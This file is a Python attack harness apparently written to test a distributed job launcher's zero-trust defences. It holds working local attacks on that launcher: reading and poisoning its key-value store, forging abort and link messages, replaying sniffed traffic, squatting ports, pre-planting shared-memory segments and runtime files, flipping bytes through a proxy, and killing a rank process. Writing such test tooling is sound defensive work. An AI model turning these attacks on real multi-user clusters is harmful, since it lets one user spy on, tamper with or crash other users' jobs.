@@ -1,0 +1,612 @@
+#!/usr/bin/python3
+"""zt_attacker.py: another user's tools against a Saker job, for zero_trust_attacks.sh.
+
+Standard library only. Every subcommand except `sniff` and `flip-proxy` runs as the
+attacker (an ordinary user); those two are the trusted test runner (root) observing or
+tampering with the wire, as a switch on the path between two nodes can.
+
+The attacker finds the job the way any user can: /proc/net/tcp lists every TCP socket
+with its owner's uid. It speaks the wire formats of today's code (launcher/comm/store.cpp:
+'S'/'G' requests; launcher/comm/mesh.cpp: the 20-byte Hello). An authenticated job must
+refuse all of it; the runner judges by what the job shows, this program only reports
+what it saw, one fact a line:
+    FACT <name> <detail>       something the attacker achieved (e.g. read a store key)
+    INFO <text>                progress
+When its attack phase is over it creates OUT.done, then waits for STOP to exist (the
+runner creates it after the job ended) to make its final checks.
+"""
+import argparse
+import json
+import os
+import re
+import socket
+import struct
+import sys
+import threading
+import time
+
+MAGIC = 0x53414B52  # "SAKR", launcher/comm/mesh.cpp
+KIND_LINK, KIND_ABORT, KIND_PING = 1, 2, 3
+RANK_ENTRY = re.compile(rb"^\S+ \d+ \S+ \S+ \d+ \S+$")  # communicator.cpp: addr port host node pid machine
+SESSION = re.compile(rb"^[0-9a-f]+-\d+$")
+
+_print_lock = threading.Lock()
+
+
+def say(*parts):
+    with _print_lock:
+        print(*parts, flush=True)
+
+
+def hello(kind, sender, channel, text=b""):
+    return struct.pack("<IIiiI", MAGIC, kind, sender, channel, len(text)) + text
+
+
+def tcp_sockets(uid, states=("0A",), proc="/proc/net"):
+    """(ip, port) of uid's TCP sockets in the given states (0A: LISTEN), any address family."""
+    found = set()
+    for name in ("tcp", "tcp6"):
+        try:
+            with open(os.path.join(proc, name)) as f:
+                next(f)
+                for line in f:
+                    cols = line.split()
+                    if cols[3] not in states or int(cols[7]) != uid:
+                        continue
+                    hexip, hexport = cols[1].split(":")
+                    ip = "127.0.0.1"
+                    if name == "tcp" and hexip != "00000000":
+                        ip = socket.inet_ntoa(struct.pack("<I", int(hexip, 16)))
+                    found.add((ip, int(hexport, 16)))
+        except FileNotFoundError:
+            pass
+    return found
+
+
+_spin = threading.local()  # _spin.until: retry refused connections until then (racing a known port)
+
+
+def connect(addr, timeout=2.0):
+    while True:
+        try:
+            s = socket.create_connection(addr, timeout=timeout)
+            break
+        except ConnectionRefusedError:
+            if time.time() >= getattr(_spin, "until", 0):
+                raise
+            time.sleep(0.0002)
+    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    return s
+
+
+def recv_exact(s, n):
+    buf = b""
+    while len(buf) < n:
+        chunk = s.recv(n - len(buf))
+        if not chunk:
+            raise ConnectionError("closed")
+        buf += chunk
+    return buf
+
+
+def store_get(s, key):
+    k = key.encode()
+    s.sendall(b"G" + struct.pack("<I", len(k)) + k)
+    (n,) = struct.unpack("<I", recv_exact(s, 4))
+    if n > 4096:
+        raise ValueError("not a store answer")
+    return recv_exact(s, n)
+
+
+def store_set(s, key, value):
+    k, v = key.encode(), value.encode()
+    s.sendall(b"S" + struct.pack("<I", len(k)) + k + struct.pack("<I", len(v)) + v)
+
+
+class Campaign:
+    """Runs fn(addr) in a thread for every listener of uid that appears, until the attack
+    phase ends (duration seconds after the first listener, or the deadline)."""
+
+    def __init__(self, args):
+        self.args = args
+        self.seen = set()
+        self.threads = []
+
+    def run(self, fn, rounds=1, gap=0.3):
+        a = self.args
+        deadline = time.time() + a.deadline
+        first = None
+        if a.port:  # a port known in advance (--master-port, plain srun's formula): race for it
+            addr = (a.host, a.port)
+            self.seen.add(addr)
+            t = threading.Thread(target=self._when_up, args=(fn, addr, deadline), daemon=True)
+            t.start()
+            self.threads.append(t)
+        while time.time() < deadline and not os.path.exists(a.stop):
+            if first is not None and time.time() - first > a.duration:
+                break
+            for addr in sorted(tcp_sockets(a.uid) - self.seen):
+                self.seen.add(addr)
+                first = first or time.time()
+                t = threading.Thread(target=self._rounds, args=(fn, addr, rounds, gap), daemon=True)
+                t.start()
+                self.threads.append(t)
+            time.sleep(0.002)
+        say("INFO attack phase over: %d listener(s) of uid %d tried" % (len(self.seen), a.uid))
+        for t in self.threads:
+            t.join(timeout=3)
+
+    @staticmethod
+    def _when_up(fn, addr, deadline):
+        """fn(addr), its connections retried at once while refused: first in the queue."""
+        _spin.until = deadline
+        try:
+            fn(addr)
+        except (OSError, ValueError, ConnectionError):
+            pass
+
+    @staticmethod
+    def _rounds(fn, addr, rounds, gap):
+        for _ in range(rounds):
+            try:
+                fn(addr)
+            except (OSError, ValueError, ConnectionError):
+                pass
+            time.sleep(gap)
+
+
+def finish(args):
+    """Signal the end of the attack phase, then wait for the runner's STOP."""
+    open(args.out + ".done", "w").close()
+    deadline = time.time() + args.deadline
+    while not os.path.exists(args.stop) and time.time() < deadline:
+        time.sleep(0.05)
+
+
+# ---- attacks (as the other user) -------------------------------------------------------
+
+
+def cmd_store_read(args):
+    def attempt(addr):
+        with connect(addr, timeout=3) as s:
+            for key in ("saker/rank/0", "saker/rank/1", "saker/session"):
+                value = store_get(s, key)
+                if RANK_ENTRY.match(value) or SESSION.match(value):
+                    say("FACT store-read %s:%d %s = %s" % (addr[0], addr[1], key, value.decode(errors="replace")))
+
+    Campaign(args).run(attempt, rounds=3, gap=0.5)
+    finish(args)
+
+
+def cmd_store_poison(args):
+    trap = socket.socket()
+    trap.bind((args.host, 0))
+    trap.listen(64)
+    port = trap.getsockname()[1]
+    value = "%s %d mallory mallory 1 mallory" % (args.host, port)
+
+    def accept_loop():
+        while True:
+            c, peer = trap.accept()
+            c.settimeout(2)
+            try:
+                data = c.recv(64)
+            except OSError:
+                data = b""
+            say("FACT poison-connected the job connected to the attacker's address from %s:%d, sent %r" % (peer[0], peer[1], data[:32]))
+
+    threading.Thread(target=accept_loop, daemon=True).start()
+
+    def spam(addr):
+        with connect(addr) as s:
+            end = time.time() + 4
+            while time.time() < end:
+                store_set(s, "saker/rank/1", value)
+                time.sleep(0.001)
+
+    say("INFO poisoning saker/rank/1 with %r" % value)
+    Campaign(args).run(spam)
+    finish(args)
+
+
+def cmd_abort(args):
+    text = args.text.encode()
+
+    def attempt(addr):
+        for sender in range(4):
+            with connect(addr) as s:
+                s.sendall(hello(KIND_ABORT, sender, 0, text))
+
+    Campaign(args).run(attempt, rounds=5, gap=0.3)
+    finish(args)
+
+
+def cmd_hijack(args):
+    held = []
+    garbage = b"\xff" * 64 + os.urandom(4096)
+
+    def attempt(addr):
+        for sender in (0, 1):
+            for channel in (0, 1):
+                s = connect(addr)
+                s.sendall(hello(KIND_LINK, sender, channel) + garbage)
+                held.append(s)  # kept open: the job reads whatever comes next from us
+
+    Campaign(args).run(attempt, rounds=3, gap=0.3)
+    finish(args)
+
+
+def cmd_replay(args):
+    with open(args.flows) as f:
+        streams = [bytes.fromhex(x) for x in json.load(f)]
+    say("INFO replaying %d captured client stream(s)" % len(streams))
+    held = []
+
+    def attempt(addr):
+        for data in streams:
+            s = connect(addr)
+            s.sendall(data)
+            held.append(s)
+
+    Campaign(args).run(attempt, rounds=2, gap=0.5)
+    finish(args)
+
+
+def cmd_squat(args):
+    s = socket.socket()
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind(("0.0.0.0", args.port))
+    s.listen(64)
+    s.settimeout(0.2)
+    say("INFO squatting port %d" % args.port)
+    open(args.out + ".ready", "w").close()
+    conns = []
+    deadline = time.time() + args.deadline
+    while not os.path.exists(args.stop) and time.time() < deadline:
+        try:
+            c, peer = s.accept()
+            c.setblocking(False)
+            conns.append([c, b""])
+        except socket.timeout:
+            pass
+        for entry in conns:
+            try:
+                entry[1] += entry[0].recv(65536)
+            except (BlockingIOError, OSError):
+                pass
+    for c, data in conns:
+        say("INFO squatter got a connection carrying %d byte(s)" % len(data))
+        if re.search(rb"saker/rank/\d+", data) and re.search(rb"\S+ \d+ \S+ \S+ \d+ \S+", data):
+            say("FACT squat-registered a rank registered with the squatter: %r" % data[:120])
+
+
+def shm_names(session):
+    """The job's segment names for a session, the likeliest first (launcher/comm/core.cpp)."""
+    return ["/dev/shm/saker-%s-c%d-n%d-s%d" % (session, ch, node, stripes)
+            for stripes in range(1, 17) for ch in (0, 1) for node in (0, 1)]
+
+
+def precreate(paths, made):
+    for path in paths:
+        try:
+            fd = os.open(path, os.O_CREAT | os.O_EXCL | os.O_RDWR, 0o666)
+            os.fchmod(fd, 0o666)
+            os.close(fd)
+            made.append(path)
+        except OSError:
+            pass
+
+
+def cmd_shm(args):
+    """Two ways to get the ranks onto the attacker's segments: learn the session from the
+    store and create its names first (a race), or set saker/session to a session whose
+    names exist already, over and over while the job starts."""
+    made, learned = [], []
+    planted = "%016x-1" % int.from_bytes(os.urandom(8), "big")
+    precreate(shm_names(planted), made)
+
+    k, v = b"saker/session", planted.encode()
+    burst = (b"S" + struct.pack("<I", len(k)) + k + struct.pack("<I", len(v)) + v) * 16
+
+    def plant(addr, spin_until, delay):
+        # Several connections, some opened after rank 0's: the store serves its clients in
+        # the order they connected, and a set parsed after rank 0's, before the answers, wins.
+        time.sleep(delay)
+        _spin.until = spin_until
+        try:
+            with connect(addr) as s:
+                end = time.time() + 4
+                while time.time() < end:
+                    s.sendall(burst)
+        except OSError:
+            pass
+
+    def attempt(addr):
+        for delay in (0, 0.0005, 0.001, 0.002, 0.004):
+            threading.Thread(target=plant, args=(addr, getattr(_spin, "until", 0), delay), daemon=True).start()
+        with connect(addr, timeout=5) as s:
+            k = b"saker/session"
+            s.sendall(b"G" + struct.pack("<I", len(k)) + k)
+            # Busy-poll the answer (a blocking wake-up costs tens of microseconds here, and
+            # this is a race against the ranks creating their segments).
+            s.setblocking(False)
+            buf, end = b"", time.time() + 5
+            while time.time() < end:
+                try:
+                    chunk = s.recv(4096)
+                except BlockingIOError:
+                    if len(buf) >= 4 and len(buf) >= 4 + struct.unpack("<I", buf[:4])[0]:
+                        break
+                    continue
+                if not chunk:
+                    break
+                buf += chunk
+        if len(buf) < 4 or struct.unpack("<I", buf[:4])[0] > 256:
+            return
+        session = buf[4 : 4 + struct.unpack("<I", buf[:4])[0]]
+        if not SESSION.match(session):
+            return
+        session = session.decode()
+        if session != planted:
+            precreate(shm_names(session), made)
+        learned.append(session)
+
+    Campaign(args).run(attempt)
+    for session in learned:
+        say("FACT shm-session learned the session name %s from the store" % session)
+    say("INFO pre-created %d segment(s)" % len(made))
+    finish(args)
+    for path in made:
+        st = os.stat(path)
+        if st.st_size > 0:
+            say("FACT shm-adopted the job used the attacker's segment %s (now %d bytes)" % (path, st.st_size))
+        os.unlink(path)
+
+
+def cmd_runtime_files(args):
+    """Pre-create the heartbeat directory (with a stale rank-0 file) or the preempt
+    marker for the next COUNT process ids: saker-run names both after its pid."""
+    with open("/proc/sys/kernel/ns_last_pid") as f:
+        last = int(f.read())
+    made = 0
+    for pid in range(last + 1, last + 1 + args.count):
+        try:
+            if args.what == "heartbeat":
+                d = os.path.join(args.dir, ".saker-heartbeat-local-%d" % pid)
+                os.mkdir(d, 0o755)
+                p = os.path.join(d, "rank-0")
+                open(p, "w").close()
+                os.utime(p, (time.time() - 7200, time.time() - 7200))
+            else:
+                open(os.path.join(args.dir, ".saker-preempted-local-%d" % pid), "w").close()
+            made += 1
+        except OSError:
+            pass
+    say("INFO pre-created %d %s path(s) for pids %d..%d" % (made, args.what, last + 1, last + args.count))
+
+
+def cmd_read_files(args):
+    for top in args.paths:
+        for root, dirs, files in os.walk(top):
+            for name in files:
+                path = os.path.join(root, name)
+                try:
+                    with open(path, "rb") as f:
+                        n = len(f.read(4096))
+                    say("FACT file-readable %s (%d bytes read)" % (path, n))
+                except OSError as e:
+                    say("INFO denied %s: %s" % (path, e.strerror))
+
+
+# ---- the trusted runner (root): capture and tamper on the wire ----------------------------
+
+
+def cmd_sniff(args):
+    """Capture TCP payload on an interface (AF_PACKET); report whether the pattern appears
+    and keep the first bytes each client sent to a listener of uid (for the replay)."""
+    pattern = args.pattern.encode()
+    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
+    sock.setsockopt(socket.SOL_SOCKET, 33, 256 << 20)  # SO_RCVBUFFORCE (root): drop as little as we can
+    sock.bind((args.iface, 0))
+    sock.settimeout(0.2)
+    tails, firsts = {}, {}
+    listeners, rescan = set(), 0.0
+    hits = packets = payload_bytes = 0
+    open(args.out + ".ready", "w").close()
+    deadline = time.time() + args.deadline
+    while not os.path.exists(args.stop) and time.time() < deadline:
+        if time.time() > rescan:
+            listeners |= {p for _, p in tcp_sockets(args.uid)}
+            rescan = time.time() + 0.05
+        try:
+            frame, addr = sock.recvfrom(262144)
+        except socket.timeout:
+            continue
+        if addr[2] == socket.PACKET_OUTGOING or len(frame) < 34 or frame[12:14] != b"\x08\x00":
+            continue
+        ip = frame[14:]
+        if ip[9] != 6:
+            continue
+        ihl = (ip[0] & 15) * 4
+        total = struct.unpack("!H", ip[2:4])[0]
+        tcp = ip[ihl:total]
+        sport, dport = struct.unpack("!HH", tcp[:4])
+        data = tcp[(tcp[12] >> 4) * 4:]
+        if not data:
+            continue
+        packets += 1
+        payload_bytes += len(data)
+        flow = (ip[12:16], sport, ip[16:20], dport)
+        joined = tails.get(flow, b"") + data
+        if pattern in joined:
+            hits += 1
+        tails[flow] = joined[-len(pattern):]
+        # Every flow's first client bytes (the listeners are known only afterwards: a link
+        # is opened within milliseconds of its listener).
+        if len(firsts.get(flow, b"")) < 1024 and len(firsts) < 4096:
+            firsts[flow] = firsts.get(flow, b"") + data[: 1024 - len(firsts.get(flow, b""))]
+    received, dropped = struct.unpack("II", sock.getsockopt(263, 6, 8))  # SOL_PACKET, PACKET_STATISTICS
+    say("INFO captured %d TCP payload packet(s), %d byte(s); the kernel dropped %d of the last %d frames" %
+        (packets, payload_bytes, dropped, received))
+    if hits:
+        say("FACT pattern-seen the known tensor pattern appeared in %d packet(s)" % hits)
+    if args.flows:
+        with open(args.flows, "w") as f:
+            listeners |= {p for _, p in tcp_sockets(args.uid)}
+            json.dump([v.hex() for k, v in firsts.items() if k[3] in listeners and len(v) >= 8], f)
+        os.chmod(args.flows, 0o644)
+
+
+def cmd_flip_proxy(args):
+    """Relay connections to TARGET_IP:P for every listener P that the process PID (in
+    another network namespace) opens, on LISTEN_IP:P; flip a byte of the client's
+    stream every EVERY bytes."""
+    bound = {}
+    flips = [0]
+    lock = threading.Lock()
+
+    def pump(src, dst, every):
+        seen = 0
+        try:
+            while True:
+                data = src.recv(65536)
+                if not data:
+                    break
+                # Bytes at every, 2*every, ...: the first megabytes are the ring's calibration
+                # (launcher/comm/ring.cpp), whose values nobody checks.
+                if every and (seen + len(data)) // every > seen // every:
+                    b = bytearray(data)
+                    at = ((seen // every) + 1) * every
+                    while at < seen + len(data):
+                        b[at - seen] ^= 0x01
+                        at += every
+                        with lock:
+                            flips[0] += 1
+                    data = bytes(b)
+                seen += len(data)
+                dst.sendall(data)
+        except OSError:
+            pass
+        for s in (src, dst):
+            try:
+                s.shutdown(socket.SHUT_RDWR)
+            except OSError:
+                pass
+
+    def serve(lsock, port):
+        while True:
+            c, _ = lsock.accept()
+            try:
+                u = socket.create_connection((args.target_ip, port), timeout=5)
+                u.settimeout(None)
+            except OSError:
+                c.close()
+                continue
+            threading.Thread(target=pump, args=(c, u, args.every), daemon=True).start()
+            threading.Thread(target=pump, args=(u, c, 0), daemon=True).start()
+
+    open(args.out + ".ready", "w").close()
+    deadline = time.time() + args.deadline
+    while not os.path.exists(args.stop) and time.time() < deadline:
+        for _, port in tcp_sockets(args.uid, proc="/proc/%d/net" % args.pid) if os.path.exists("/proc/%d" % args.pid) else ():
+            if port in bound:
+                continue
+            ls = socket.socket()
+            ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+            ls.bind((args.listen_ip, port))
+            ls.listen(64)
+            bound[port] = ls
+            threading.Thread(target=serve, args=(ls, port), daemon=True).start()
+        time.sleep(0.002)
+    say("INFO relayed %d listener(s); flipped %d byte(s)" % (len(bound), flips[0]))
+    if flips[0]:
+        say("FACT flipped %d byte(s) of the client's streams" % flips[0])
+
+
+def cmd_kill_on_shm(args):
+    """SIGKILL the uid's process with SAKER_RANK=RANK the moment a file of the uid appears
+    in /dev/shm (the window between creating a segment and removing its name is short):
+    start it before the job."""
+    deadline = time.time() + args.deadline
+    with open("/proc/sys/kernel/ns_last_pid") as f:
+        since = int(f.read())
+    victim = []
+    tag = b"SAKER_RANK=%d" % args.rank
+
+    def find_victim():  # only processes newer than this watcher: a short scan
+        while not victim and time.time() < deadline:
+            for pid in filter(str.isdigit, os.listdir("/proc")):
+                if int(pid) <= since:
+                    continue
+                try:
+                    if os.stat("/proc/" + pid).st_uid != args.uid:
+                        continue
+                    with open("/proc/%s/environ" % pid, "rb") as f:
+                        if tag in f.read().split(b"\0"):
+                            victim.append(int(pid))
+                except OSError:
+                    pass
+            time.sleep(0.0005)
+
+    threading.Thread(target=find_victim, daemon=True).start()
+    open(args.out + ".ready", "w").close()
+    while time.time() < deadline:
+        for name in os.listdir("/dev/shm"):
+            try:
+                if victim and os.stat("/dev/shm/" + name).st_uid == args.uid:
+                    os.kill(victim[0], 9)
+                    say("INFO SIGKILLed rank %d (pid %d) once /dev/shm/%s existed" % (args.rank, victim[0], name))
+                    return
+            except OSError:
+                pass
+    say("INFO no segment of uid %d appeared (rank %d: pid %s)" % (args.uid, args.rank, victim))
+
+
+def main():
+    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    sub = p.add_subparsers(dest="cmd", required=True)
+
+    def campaign(name, fn, **extra):
+        q = sub.add_parser(name)
+        q.add_argument("--uid", type=int, required=True, help="the job owner's uid")
+        q.add_argument("--stop", required=True, help="file the runner creates when the job ended")
+        q.add_argument("--out", required=True, help="OUT.done is created when the attack phase ends")
+        q.add_argument("--duration", type=float, default=4.0, help="attack phase, seconds after the first listener")
+        q.add_argument("--deadline", type=float, default=60.0)
+        q.add_argument("--port", type=int, default=0, help="the store's port, when known in advance")
+        q.add_argument("--host", default="127.0.0.1", help="where that port is (default: this machine)")
+        for k, v in extra.items():
+            q.add_argument("--" + k.replace("_", "-"), dest=k, **v)
+        q.set_defaults(fn=fn)
+        return q
+
+    campaign("store-read", cmd_store_read)
+    campaign("store-poison", cmd_store_poison)
+    campaign("abort", cmd_abort, text=dict(required=True))
+    campaign("hijack", cmd_hijack)
+    campaign("replay", cmd_replay, flows=dict(required=True))
+    campaign("shm", cmd_shm)
+    q = campaign("squat", cmd_squat)
+    q = campaign("sniff", cmd_sniff, iface=dict(default="lo"), pattern=dict(required=True), flows=dict(default=""))
+    q = campaign("flip-proxy", cmd_flip_proxy, pid=dict(type=int, required=True), listen_ip=dict(required=True),
+                 target_ip=dict(required=True), every=dict(type=int, default=4 << 20))
+    q = sub.add_parser("kill-on-shm")
+    q.add_argument("--uid", type=int, required=True)
+    q.add_argument("--rank", type=int, default=0)
+    q.add_argument("--out", required=True)
+    q.add_argument("--deadline", type=float, default=20.0)
+    q.set_defaults(fn=cmd_kill_on_shm)
+    q = sub.add_parser("runtime-files")
+    q.add_argument("what", choices=("heartbeat", "marker"))
+    q.add_argument("--dir", required=True)
+    q.add_argument("--count", type=int, default=3000)
+    q.set_defaults(fn=cmd_runtime_files)
+    q = sub.add_parser("read-files")
+    q.add_argument("paths", nargs="+")
+    q.set_defaults(fn=cmd_read_files)
+    args = p.parse_args()
+    args.fn(args)
+
+
+if __name__ == "__main__":
+    sys.exit(main())
